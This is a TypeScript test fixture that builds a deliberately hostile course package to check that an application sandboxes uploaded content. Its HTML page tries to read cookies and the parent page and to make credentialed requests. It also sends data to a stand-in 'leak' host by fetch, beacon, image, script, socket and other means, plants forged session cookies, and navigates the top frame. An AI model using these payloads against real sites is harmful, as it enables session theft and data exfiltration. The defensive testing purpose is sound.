import { manifest12, zipOf } from '#tests/support/packages'

/**
 * A package that tries everything a page can try against the application around it and to reach `leak`, and writes
 * what it found into its own page: one line for each attack. `go` is called when the rest has been read: the page
 * does not outlive it.
 */
export const hostilePackage = (app: string, leak: string) =>
  zipOf({
    'imsmanifest.xml': manifest12([{ id: 'a' }]),
    'a.html': `<!doctype html><meta charset="utf-8"><pre id="out"></pre><div id="done"></div>
<form id="f" method="post" action="${app}/packages" target="_self"><input name="x"></form>
<form id="g" method="get" action="${leak}/form" target="_self"><input name="x" value="1"></form>
<script>
const out = {}
const attempt = async (name, run) => { try { out[name] = String(await run()) } catch (error) { out[name] = 'refused: ' + error.name } }
const loads = (tag, values) => new Promise((resolve) => {
  const one = Object.assign(document.createElement(tag), values)
  one.onload = () => resolve('loaded')
  one.onerror = () => resolve('refused')
  document.body.append(one)
  setTimeout(() => resolve('refused in silence'), 1500)
})
const hears = (one) => new Promise((resolve) => { one.onopen = () => resolve('open'); one.onerror = () => resolve('refused') })
window.go = (where) => { location.href = where }
;(async () => {
  await attempt('cookie', () => document.cookie)
  await attempt('dom', () => top.document.body.innerHTML)
  await attempt('storage', () => top.localStorage.length)
  await attempt('read', () => fetch('${app}/me', { credentials: 'include' }).then((r) => r.text()))
  await attempt('post', () => fetch('${app}/packages', { method: 'POST', credentials: 'include', mode: 'no-cors', body: 'x=1' }).then((r) => r.type))
  await attempt('beacon', () => navigator.sendBeacon('${app}/packages', 'x'))
  await attempt('leak', () => fetch('${leak}/steal?c=1', { mode: 'no-cors' }).then((r) => r.type))
  await attempt('far beacon', () => navigator.sendBeacon('${leak}/beacon', 'x'))
  await attempt('picture', () => loads('img', { src: '${leak}/steal.png' }))
  await attempt('script', () => loads('script', { src: '${leak}/steal.js' }))
  await attempt('style', () => loads('link', { rel: 'stylesheet', href: '${leak}/steal.css' }))
  await attempt('prefetch', () => loads('link', { rel: 'prefetch', href: '${leak}/prefetch' }))
  await attempt('module', () => import('${leak}/steal.mjs').then(() => 'loaded'))
  await attempt('socket', () => hears(new WebSocket('${leak}/socket'.replace('http', 'ws'))))
  await attempt('events', () => hears(new EventSource('${leak}/events')))
  await attempt('far frame', () => loads('iframe', { src: '${leak}/frame' }))
  await attempt('frame', () => new Promise((resolve) => { const f = document.createElement('iframe'); f.onload = () => { try { resolve(f.contentDocument ? 'readable' : 'closed') } catch { resolve('closed') } }; f.src = '${app}/me'; document.body.append(f); setTimeout(() => resolve('closed'), 1500) }))
  await attempt('popup', () => String(window.open('${app}/')))
  await attempt('worker', () => navigator.serviceWorker.register('sw.js').then(() => 'registered'))
  await attempt('hello', () => { top.postMessage({ type: 'tonle:hello', nonce: 'guess' }, '*'); return 'sent' })
  await attempt('own storage', () => { localStorage.setItem('mine', '1'); return localStorage.getItem('mine') })
  await attempt('question', () => confirm('Begin where you were?'))
  await attempt('nested', () => new Promise((resolve) => { addEventListener('message', ({ data }) => resolve(data)); const f = document.createElement('iframe'); f.src = 'nested.html'; document.body.append(f); setTimeout(() => resolve('silent'), 3000) }))
  await attempt('toss', () => {
    const domain = '; domain=' + location.hostname.split('.').slice(-2).join('.')
    for (const at of ['', domain]) {
      document.cookie = 'tonle_session=EVIL; path=/packages' + at
      document.cookie = '__Host-tonle_session=EVIL; path=/; secure' + at
    }
    return 'tried'
  })
  await attempt('form', () => { document.getElementById('f').submit(); return 'sent' })
  await attempt('far form', () => { document.getElementById('g').submit(); return 'sent' })
  await attempt('parent', () => { if (parent === window) return 'alone'; parent.location = '${leak}/parent'; return 'sent' })
  await attempt('top', () => { if (top === window) return 'alone'; top.location = '${leak}/top'; return 'sent' })
  document.getElementById('out').textContent = JSON.stringify(out)
  document.getElementById('done').textContent = 'done'
})()
</script>`,
    'nested.html': `<!doctype html><script>
let w = window
for (let n = 0; n < 9 && !w.API && w.parent !== w; n++) w = w.parent
parent.postMessage(w.API ? 'API' : 'none', '*')
</script>`,
    'sw.js': '',
  })
